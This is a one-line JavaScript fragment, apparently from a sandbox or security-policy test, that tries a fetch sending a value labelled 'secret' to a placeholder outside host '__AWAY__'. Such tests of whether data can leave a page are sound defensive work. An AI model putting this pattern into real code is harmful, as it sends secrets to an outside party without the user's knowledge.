attempt("fetch", () => fetch("__AWAY__/fetch?x=secret"));
